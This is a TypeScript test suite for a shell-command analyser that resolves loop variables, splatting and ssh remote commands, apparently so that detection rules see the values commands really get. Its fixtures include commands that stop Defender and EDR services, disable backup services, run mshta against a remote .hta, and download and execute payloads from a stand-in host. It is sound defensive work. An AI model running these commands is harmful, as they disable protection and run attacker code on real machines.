/**
 * Values that real scripts pass around rather than write inline: loop variables, PowerShell
 * splatting, the command an ssh session runs remotely, and a cmd name spelt by variables. The
 * analysis must give rules the values the commands actually receive.
 */
import { describe, expect, it } from 'vitest';
import { analyse } from './analyse';
import type { Document, SimpleCommand } from './document';
import type { Shell } from '../types';

const doc = (text: string, shell: Shell) => analyse(text, shell, shell === 'cmd' || shell === 'powershell' ? 'windows' : 'linux');
const command = (d: Document, name: string): SimpleCommand | undefined => d.commands.find((c) => c.name === name);
const words = (d: Document, name: string) => command(d, name)?.words.map((w) => w.value);

describe('loop variables stand for the items of their list', () => {
  it('PowerShell foreach over a list variable', () => {
    const d = doc("$svcs = 'Sense','WdNisSvc'\nforeach ($s in $svcs) { Stop-Service -Name $s -Force }", 'powershell');
    expect(words(d, 'stop-service')).toEqual(['Stop-Service', '-Name', 'Sense,WdNisSvc', '-Force']);
  });

  it('PowerShell foreach over a written list, and $_ of ForEach-Object over piped constants', () => {
    expect(
      words(doc("foreach ($g in 'SG-Finance', 'SG-VPN') { Add-ADGroupMember -Identity $g -Members x }", 'powershell'), 'add-adgroupmember'),
    ).toContain('SG-Finance,SG-VPN');
    expect(words(doc("'Sense','WinDefend' | ForEach-Object { Stop-Service $_ }", 'powershell'), 'stop-service')).toEqual([
      'Stop-Service',
      'Sense,WinDefend',
    ]);
    expect(words(doc("'Sense' | % { Stop-Service $PSItem }", 'powershell'), 'stop-service')).toEqual(['Stop-Service', 'Sense']);
  });

  it('$_ of a ForEach-Object block after a Where-Object filter on a name stands for the names it keeps', () => {
    const d = doc(
      "Get-Service | Where-Object { $_.DisplayName -match 'Sophos|Carbon' -or $_.Name -eq 'Sense' } | % { Stop-Service $_.Name }",
      'powershell',
    );
    expect(words(d, 'stop-service')).toEqual(['Stop-Service', 'Sophos,Carbon,Sense.Name']);
    expect(words(doc("Get-Process | ? ProcessName -like 'MsMp*' | % { Stop-Process -Name $_ }", 'powershell'), 'stop-process')).toEqual([
      'Stop-Process',
      '-Name',
      'MsMp*',
    ]);
    // A filter on anything but a name says nothing of which items pass.
    const byStatus = doc("Get-Service | ? { $_.Status -eq 'Stopped' } | % { Start-Service $_ }", 'powershell');
    expect(words(byStatus, 'start-service')).toEqual(['Start-Service', '$_']);
  });

  it('leaves the variable unknown when the items are not known, and $_ unbound outside the block', () => {
    const d = doc('foreach ($s in (Get-Service)) { Stop-Service $s }\nGet-Service | % { $_.Name }\nWrite-Output $_', 'powershell');
    expect(words(d, 'stop-service')).toEqual(['Stop-Service', '$s']);
    expect(words(d, 'write-output')).toEqual(['Write-Output', '$_']);
  });

  it('POSIX for loops: one word per expansion, every item in it', () => {
    const d = doc('for h in esx01 esx02; do ping -c1 root@$h; done', 'bash');
    expect(words(d, 'ping')).toEqual(['ping', '-c1', 'root@esx01,esx02']);
    expect(words(doc('for f in $(ls /tmp); do bash $f; done', 'bash'), 'bash')).toEqual(['bash', '$f']);
  });

  it('cmd for loops: the set is bound into the body; sets of lines or numbers are not', () => {
    expect(words(doc('for %s in (WinDefend Sense) do sc stop %s', 'cmd'), 'sc')).toEqual(['sc', 'stop', 'WinDefend,Sense']);
    expect(words(doc('for /r C:\\ %%f in (unattend.xml) do copy %%f C:\\Users\\Public', 'cmd'), 'copy')).toEqual([
      'copy',
      'unattend.xml',
      'C:\\Users\\Public',
    ]);
    expect(words(doc('for /f "tokens=*" %a in (hosts.txt) do ping %a', 'cmd'), 'ping')).toEqual(['ping', '%a']);
    expect(words(doc('for /l %n in (1,1,5) do echo %n', 'cmd'), 'echo')).toEqual(['echo', '%n']);
  });

  it('cmd for loops with a do ( … ) block bind the set in every command of the block, and only there', () => {
    const d = doc('for %%s in (VSS wbengine) do (\n  net stop %%s /y\n  sc config %%s start= disabled\n)\necho %%s', 'cmd');
    expect(words(d, 'net')).toEqual(['net', 'stop', 'VSS,wbengine', '/y']);
    expect(words(d, 'sc')).toEqual(['sc', 'config', 'VSS,wbengine', 'start=', 'disabled']);
    expect(words(d, 'echo')).toEqual(['echo', '%%s']);
    // Nested blocks bind both variables; a block's variable still unknown as the program hides what runs.
    const nested = doc('for %%a in (srv1) do (\n for %%b in (Sense) do (\n  sc \\\\%%a stop %%b\n )\n)', 'cmd');
    expect(words(nested, 'sc')).toEqual(['sc', '\\\\srv1', 'stop', 'Sense']);
    const computed = doc('for /f %%p in (list.txt) do (\n  %%p /quiet\n)', 'cmd');
    expect(computed.commands[0]?.words[0]?.obfuscated).toBe(true);
  });

  it('keeps a huge list bounded', () => {
    const items = Array.from({ length: 5000 }, (_, i) => `host${i}`).join(' ');
    const value = words(doc(`for h in ${items}; do ping $h; done`, 'bash'), 'ping')?.[1] ?? '';
    expect(value.length).toBeLessThanOrEqual(1024);
    expect(value.startsWith('host0,host1,')).toBe(true);
  });
});

describe('a list of paths assigned as written', () => {
  it('keeps quoted items with unknown parts, so a program picked from the list is still named', () => {
    const d = doc(
      '$paths = @("$env:SystemRoot\\System32\\mshta.exe", "$env:SystemRoot\\SysWOW64\\mshta.exe")\n$exe = $paths | Where-Object { Test-Path $_ } | Select-Object -First 1\n& $exe http://x.example/a.hta',
      'powershell',
    );
    expect(d.commands.at(-1)?.name).toBe('mshta');
    // Anything but quoted items (a command, a variable) leaves the variable unknown.
    expect(doc('$p = @(Get-Process)\n& $p', 'powershell').commands.at(-1)?.words[0]?.value).toBe('$p');
    expect(doc('$p = @("a", $b)\n& $p', 'powershell').commands.at(-1)?.words[0]?.value).toBe('$p');
  });
});

describe('PowerShell splatting: @params stands as the parameters its hashtable holds', () => {
  it('expands a hashtable into -Key value words, a $true switch into the switch', () => {
    const text =
      "$p = @{\n  Uri = 'https://x.example/a.exe'\n  OutFile = 'C:\\t\\a.exe'\n  UseBasicParsing = $true\n}\nInvoke-WebRequest @p";
    const d = doc(text, 'powershell');
    expect(words(d, 'invoke-webrequest')).toEqual([
      'Invoke-WebRequest',
      '-Uri',
      'https://x.example/a.exe',
      '-OutFile',
      'C:\\t\\a.exe',
      '-UseBasicParsing',
    ]);
    // The words point at the hashtable's lines, where the values are written.
    const uri = command(d, 'invoke-webrequest')!.words[2]!;
    expect(text.slice(uri.span.start, uri.span.end)).toBe("'https://x.example/a.exe'");
  });

  it('splats into a call by & too, and forgets a hashtable once the variable is reassigned', () => {
    expect(words(doc("$a = @{ FilePath = 'msiexec.exe' }\n& Start-Process @a", 'powershell'), 'start-process')).toEqual([
      'Start-Process',
      '-FilePath',
      'msiexec.exe',
    ]);
    expect(words(doc("$a = @{ FilePath = 'x.exe' }\n$a = 'other'\nStart-Process @a", 'powershell'), 'start-process')).toEqual([
      'Start-Process',
      '@a',
    ]);
  });

  it('reads a property of the hashtable: quoted text keeps its brackets, an unquoted expression stays unknown', () => {
    const cfg = "$cf = @{\n  Exe = 'C:\\Program Files (x86)\\cf\\cloudflared.exe'\n  When = (Get-Date)\n}\n";
    expect(words(doc(`${cfg}& $cf.Exe service install`, 'powershell'), 'cloudflared')).toEqual([
      'C:\\Program Files (x86)\\cf\\cloudflared.exe',
      'service',
      'install',
    ]);
    expect(words(doc(`${cfg}Write-Output $cf.When`, 'powershell'), 'write-output')).toEqual(['Write-Output', '$cf.When']);
  });
});

describe('ssh: the command run on the remote host is analysed as a shell line', () => {
  it('after the destination and the options that take values', () => {
    const d = doc(
      'ssh -p 2222 -i ~/.ssh/id -o StrictHostKeyChecking=no root@esx01 "cd /tmp && wget -q http://x.example/e -O e && ./e"',
      'bash',
    );
    expect(d.commands.map((c) => c.name)).toEqual(['ssh', 'cd', 'wget', 'e']);
    expect(d.layers.filter((l) => l.depth === 1).map((l) => l.shell)).toEqual(['sh']);
  });

  it('a plain login or a forward has no remote command', () => {
    expect(doc('ssh -L 8080:localhost:80 -N jump', 'bash').layers).toHaveLength(1);
    expect(doc('ssh admin@db01', 'bash').layers).toHaveLength(1);
  });
});

describe('cmd: a name spelt partly by variables is obfuscated', () => {
  it('marks the word where an expansion meets letters, not where a path separator stands', () => {
    const spelt = doc('cmd /c "set a=pow&& set b=ershell&& call %a%%b% -c whoami"', 'cmd');
    expect(command(spelt, 'powershell')?.words[0]?.obfuscated).toBe(true);
    expect(command(doc('"%ProgramFiles%\\App\\app.exe" /q', 'cmd'), 'app')?.words[0]?.obfuscated).toBeFalsy();
  });
});

describe('expansions are bounded by the size of the text', () => {
  it('stops expanding a long value used over and over, and notes it', () => {
    const text = `x=${'a'.repeat(1000)}\n` + 'echo $x $x $x $x $x $x $x $x $x $x\n'.repeat(2000);
    const d = doc(text, 'bash');
    const expanded = d.commands.flatMap((c) => c.words).filter((w) => w.value.length === 1000).length;
    expect(expanded).toBeGreaterThan(0);
    expect(expanded * 1000).toBeLessThanOrEqual(text.length + 65536);
    expect(d.notes.some((n) => n.kind === 'budget_exhausted')).toBe(true);
  });

  it('keeps @p as written once splats have used the budget', () => {
    const entries = Array.from({ length: 32 }, (_, i) => `K${i} = 'v${i}'`).join('; ');
    const d = doc(`$p = @{ ${entries} }\n` + 'x @p @p @p @p @p\n'.repeat(2000), 'powershell');
    const last = d.commands.at(-1)!;
    expect(last.words.map((w) => w.value)).toEqual(['x', '@p', '@p', '@p', '@p', '@p']);
    expect(d.commands.find((c) => c.name === 'x')!.words[1]!.value).toBe('-K0');
  });

  it('charges doskey macro expansions to the same budget', () => {
    const text = `doskey a=${'$*'.repeat(500)}\n` + 'a xxxxxxxx\n'.repeat(2000);
    const d = doc(text, 'cmd');
    const derived = d.layers.filter((l) => l.origin === 'deobfuscated').reduce((n, l) => n + l.text.length, 0);
    expect(derived).toBeGreaterThan(0);
    expect(derived).toBeLessThanOrEqual(2 * text.length + 65536);
    // Stopped by the expansion budget as each call is read, before its text is made, not only when layers are queued.
    expect(d.notes.some((n) => n.kind === 'budget_exhausted' && n.detail === 'too many variable expansions to follow')).toBe(true);
  });

  it('does not let a cmd for body multiply its set', () => {
    const d = doc(`for %x in (${'h'.repeat(1000)}) do echo ${'%x '.repeat(5000)}`, 'cmd');
    const echo = d.commands.find((c) => c.name === 'echo')!;
    const total = echo.words.reduce((n, w) => n + w.value.length, 0);
    expect(total).toBeLessThanOrEqual(d.original.length + 65536 + 20000);
  });
});

describe('POSIX array literals', () => {
  it('reads NAME=( … ) as the items of an array, not as a subshell of commands', () => {
    const d = doc('declare -A CHECKS=( [disk]="df -h /" [mem]="free -m" )\nTOOLS=(nc nmap)\nx=($(curl -s http://a.example/l) b)', 'bash');
    expect(d.commands.map((c) => c.name)).toEqual(['declare', 'curl']);
    expect(d.assignments?.find((a) => a.name === 'TOOLS')?.value).toBe('nc nmap');
  });
});
